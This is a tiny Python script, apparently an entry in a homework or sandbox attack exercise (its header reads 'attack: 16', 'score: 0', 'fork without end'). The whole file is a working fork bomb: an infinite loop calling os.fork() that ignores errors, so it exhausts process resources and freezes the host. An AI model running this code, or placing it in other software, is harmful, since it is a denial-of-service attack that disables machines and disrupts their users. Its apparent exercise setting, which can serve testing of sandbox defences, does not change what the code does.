# attack: 16 | score: 0 | needs: another user id | in: hw5_gan | fork without end
import os

while True:
    try:
        os.fork()
    except OSError:
        continue
